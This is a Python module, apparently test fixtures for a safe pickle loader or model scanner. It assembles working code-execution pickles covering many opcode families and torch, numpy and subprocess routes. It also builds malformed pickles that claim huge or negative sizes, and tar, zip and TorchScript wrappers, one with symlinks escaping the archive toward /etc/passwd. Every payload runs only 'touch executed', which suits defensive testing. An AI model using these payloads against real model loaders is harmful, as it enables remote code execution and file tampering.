"""Pickles that run code in a trusting unpickler: one for each family of opcodes that can, and known detours.

Each creates the file `executed` in the working directory. They are written opcode by opcode, since no pickler makes all
of them.
"""

import copyreg
import io
import os
import pickle
import struct
import tarfile
import zipfile

COMMAND = "touch executed"
_MAGIC, _PROTOCOL = 0x1950A86A20F9469CFC6C, 1001  # the first values of files by PyTorch before 1.6
EXTENSION = 199  # the code of os.system in copyreg's registry


def _text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _global(name: str) -> bytes:
    module, _, member = name.rpartition(".")
    return f"c{module}\n{member}\n".encode()


def _call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def _pickled(body: bytes, protocol: int = 2) -> bytes:
    """Returns the pickle of {"model": the object that `body` leaves on the stack}."""
    return b"\x80" + bytes([protocol]) + b"}" + _text("model") + body + b"s."


_RUN = _text(COMMAND)
_CODE = _text(f"__import__('os').system({COMMAND!r})")
_EVIL = _pickled(_call(_global("os.system"), _RUN))


def _bytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def _storage(values: int = 4) -> bytes:
    """Returns a persistent id as PyTorch writes it: ("storage", type, key, device, number of values)."""
    return b"(" + _text("storage") + _global("torch.FloatStorage") + _text("0") + _text("cpu") + _int(values) + b"tQ"


def _int(value: int) -> bytes:
    data = value.to_bytes(9, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def _tuple(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def _tensor(offset: int, size: tuple[int, ...], stride: tuple[int, ...]) -> bytes:
    return _call(
        _global("torch._utils._rebuild_tensor_v2"), _storage(), _int(offset), _tuple(*map(_int, size)),
        _tuple(*map(_int, stride)), b"\x89", _call(_global("collections.OrderedDict")),
    )  # fmt: skip


def _dtype(name: str, byteorder: str = "<", size: int = -1, fields: bytes = b"N") -> bytes:
    state = _tuple(_int(3), _text(byteorder), b"N", b"N", fields, _int(size), _int(size), _int(0))
    return _call(_global("numpy.dtype"), _text(name), b"\x89", b"\x88") + state + b"b"


def _array(shape: bytes, dtype: bytes, data: bytes) -> bytes:
    state = _tuple(_int(1), shape, dtype, b"\x89", data)
    new = _call(_global("numpy._core.multiarray._reconstruct"), _global("numpy.ndarray"), _tuple(_int(0)), _text("b"))
    return new + state + b"b"


def _encoded(value: str) -> bytes:
    return _call(_global("_codecs.encode"), _text(value), _text("latin1"))


# By family of opcodes that call or build an object by name.
FAMILIES: dict[str, bytes] = {
    "GLOBAL, REDUCE": _EVIL,
    "STACK_GLOBAL, REDUCE": _pickled(_call(_text("os") + _text("system") + b"\x93", _RUN), 4),
    "INST": _pickled(b"(" + _RUN + b"ios\nsystem\n"),
    "OBJ": _pickled(b"(" + _global("os.system") + _RUN + b"o"),
    "NEWOBJ": _pickled(
        _global("subprocess.Popen") + _tuple(b"]" + _text("touch") + b"a" + _text("executed") + b"a") + b"\x81"
    ),
    "NEWOBJ_EX": _pickled(
        _global("subprocess.Popen") + _tuple(b"]" + _RUN + b"a") + b"}" + _text("shell") + b"\x88s\x92", 4
    ),
    "BUILD, __setstate__": _pickled(
        _call(_global("functools.partial"), _global("os.system"))
        + _tuple(_global("os.system"), _tuple(_RUN), b"}", b"N")
        + b"b"
    ),
    "BUILD, attributes": _pickled(
        _call(_global("collections.OrderedDict")) + b"}" + _text("__class__") + _global("os.system") + b"sb"
    ),
    "EXT1": _pickled(_call(b"\x82" + bytes([EXTENSION]), _RUN)),
    "EXT2": _pickled(_call(b"\x83" + struct.pack("<H", EXTENSION), _RUN)),
    "EXT4": _pickled(_call(b"\x84" + struct.pack("<i", EXTENSION), _RUN)),
    "PERSID": _pickled(b"P" + COMMAND.encode() + b"\n"),
    "BINPERSID": _pickled(_tuple(_text("storage"), _global("os.system"), _RUN, _text("cpu"), _int(1)) + b"Q"),
    "eval": _pickled(_call(_global("builtins.eval"), _CODE)),
    "exec": _pickled(_call(_global("builtins.exec"), _CODE)),
    "getattr": _pickled(
        _call(
            _call(_global("builtins.getattr"), _call(_global("builtins.__import__"), _text("os")), _text("system")),
            _RUN,
        )
    ),
    "methodcaller": _pickled(_call(_call(_global("operator.methodcaller"), _text("system"), _RUN), _global("os.path"))),
    "subprocess": _pickled(
        _call(_global("subprocess.check_output"), b"]" + _text("touch") + b"a" + _text("executed") + b"a")
    ),
    "pty": _pickled(_call(_global("pty.spawn"), _RUN)),
    "runpy": _pickled(_call(_global("runpy.run_path"), _text("/dev/stdin"))),
    "pickle in a pickle": _pickled(_call(_global("pickle.loads"), _bytes(_EVIL)), 3),
    "torch.load in a pickle": _pickled(_call(_global("torch.load"), _call(_global("io.BytesIO"), _bytes(_EVIL))), 3),
    "torch.storage._load_from_bytes": _pickled(_call(_global("torch.storage._load_from_bytes"), _bytes(_EVIL)), 3),
    "torch.hub": _pickled(_call(_global("torch.hub.load"), _text("a/b"), _text("c"))),
    "numpy's runstring": _pickled(_call(_global("numpy.testing._private.utils.runstring"), _CODE, b"}")),
    "numpy's _reconstruct": _pickled(
        _call(_global("numpy._core.multiarray._reconstruct"), _global("subprocess.Popen"), _tuple(_int(0)), _text("b"))
    ),
    "_rebuild_from_type_v2": _pickled(
        _call(
            _global("torch._tensor._rebuild_from_type_v2"),
            _global("os.system"),
            _global("torch.Tensor"),
            _tuple(_RUN),
            b"}",
        )
    ),
    "_rebuild_parameter_with_state": _pickled(
        _call(
            _global("torch._utils._rebuild_parameter_with_state"),
            _tensor(0, (4,), (1,)),
            b"\x89",
            _call(_global("collections.OrderedDict")),
            _global("os.system"),
        )
    ),
    "a stand-in for a path": _pickled(_call(_global("pathlib.PosixPath"), _call(_global("os.system"), _RUN))),
    "a stand-in for a factory": _pickled(_call(_global("collections.defaultdict"), _global("os.system"))),
    "a stand-in for a dtype": _pickled(
        _call(_global("numpy.dtype"), _call(_global("os.system"), _RUN), b"\x89", b"\x88")
    ),
    "a stand-in for an array of objects": _pickled(
        _array(_tuple(_int(1)), _dtype("O8"), b"](" + _call(_global("os.system"), _RUN) + b"e")
    ),
    "a config that is none": _pickled(_call(_global("yacs.config.CfgNode"), _call(_global("os.system"), _RUN))),
}

NUMPY_LIES: dict[str, bytes] = {
    "array beyond its data": _pickled(_array(_tuple(_int(1 << 40)), _dtype("f4"), _encoded("abcd"))),
    "array of negative size": _pickled(_array(_tuple(_int(-1)), _dtype("f4"), _encoded("abcd"))),
    "array of many dimensions": _pickled(_array(_tuple(*[_int(1)] * 500), _dtype("f4"), _encoded("abcd"))),
    "array of pointers": _pickled(_array(_tuple(_int(1)), _dtype("O8"), _encoded("abcdefgh"))),
    "array of compound values": _pickled(_array(_tuple(_int(1)), _dtype("V8", fields=b"}"), _encoded("abcdefgh"))),
    "array of an unknown type": _pickled(_array(_tuple(_int(1)), _dtype("Q" * 99), _encoded("abcd"))),
    "array without a type": _pickled(_array(_tuple(_int(1)), b"N", _encoded("abcd"))),
    "array of long texts": _pickled(_array(_tuple(_int(1)), _dtype("U" + "9" * 18), _encoded("abcd"))),
    "scalar of too few bytes": _pickled(_call(_global("numpy.core.multiarray.scalar"), _dtype("f8"), _encoded("ab"))),
    "scalar without a type": _pickled(_call(_global("numpy.core.multiarray.scalar"), _text("f8"), _encoded("ab"))),
    "byte order that is none": _pickled(_call(_global("numpy.dtype"), _text("f4")) + _tuple(*[b"N"] * 8) + b"b"),
    "path of numbers": _pickled(_call(_global("pathlib.PosixPath"), _int(1))),
}

# These run no code, but declare wrong or excessive contents.
LIES: dict[str, bytes] = {
    "tensor beyond its storage": _pickled(_tensor(0, (1 << 40,), (1,))),
    "tensor before its storage": _pickled(_tensor(-8, (4,), (1,))),
    "negative stride": _pickled(_tensor(3, (4,), (-1,))),
    "size overflows": _pickled(_tensor(0, (1 << 62, 1 << 62), (0, 0))),
    "one value as a terabyte": _pickled(b"}" + _text("head.weight") + _tensor(0, (1 << 40,), (0,)) + b"s"),
    "storage larger than its record": _pickled(_tensor(0, (4,), (1,)).replace(_int(4), _int(1 << 40), 1)),
    "nested lists": _pickled(b"]" * 200_000 + b"a" * 199_999),
    "long text": b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b"x.",
    "long number": b"\x80\x02\x8b" + struct.pack("<i", 1 << 30) + b"x.",
    "frame that lies": b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"}.",
    **NUMPY_LIES,
    "no STOP": b"\x80\x02}",
    "empty stack": b"\x80\x02.",
    "a list": b"\x80\x02].",
    "a dict in itself": b"\x80\x02}q\x00" + _text("model") + b"h\x00s.",
    "protocol 200": b"\x80\xc8}.",
}


def register_extension() -> None:
    """Registers os.system for EXT1, EXT2 and EXT4."""
    copyreg.add_extension("os", "system", EXTENSION)


def as_zip(pickled: bytes) -> bytes:
    """Wraps a pickle as PyTorch does since 1.6."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/data/0", struct.pack("<4f", 1, 2, 3, 4))
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def as_before_1_6(pickled: bytes) -> bytes:
    """Wraps a pickle as PyTorch did before 1.6: consecutive pickles."""
    system = {"protocol_version": _PROTOCOL, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return b"".join(pickle.dumps(part, 2) for part in (_MAGIC, _PROTOCOL, system)) + pickled + pickle.dumps([], 2)


def as_tar(pickled: bytes) -> bytes:
    """Wraps a pickle as PyTorch did before 0.1.10: a tar, here with links that point outside of it."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, target in (("storages", "../../executed"), ("../executed", "/etc/passwd"), ("tensors", "executed")):
            link = tarfile.TarInfo(name)
            link.type, link.linkname = tarfile.SYMTYPE, target
            archive.addfile(link)
        for name in ("storages", "tensors", "pickle"):
            member = tarfile.TarInfo(name)
            member.size = len(pickled)
            archive.addfile(member, io.BytesIO(pickled))
    return buffer.getvalue()


def as_torchscript(pickled: bytes) -> bytes:
    """Wraps a pickle as a TorchScript program, which torch.load gives to another loader."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/constants.pkl", pickled)
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/code/__torch__.py", f"import os; os.system({COMMAND!r})")
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


WRAPPINGS = {
    "bare": lambda pickled: pickled,
    "zip": as_zip,
    "before 1.6": as_before_1_6,
    "tar": as_tar,
    "TorchScript": as_torchscript,
}


def check_they_run() -> None:
    """Checks that a trusting unpickler would run the first of them. Call this in a child."""
    pickle.loads(FAMILIES["GLOBAL, REDUCE"])
    assert os.path.exists("executed")
    os.remove("executed")
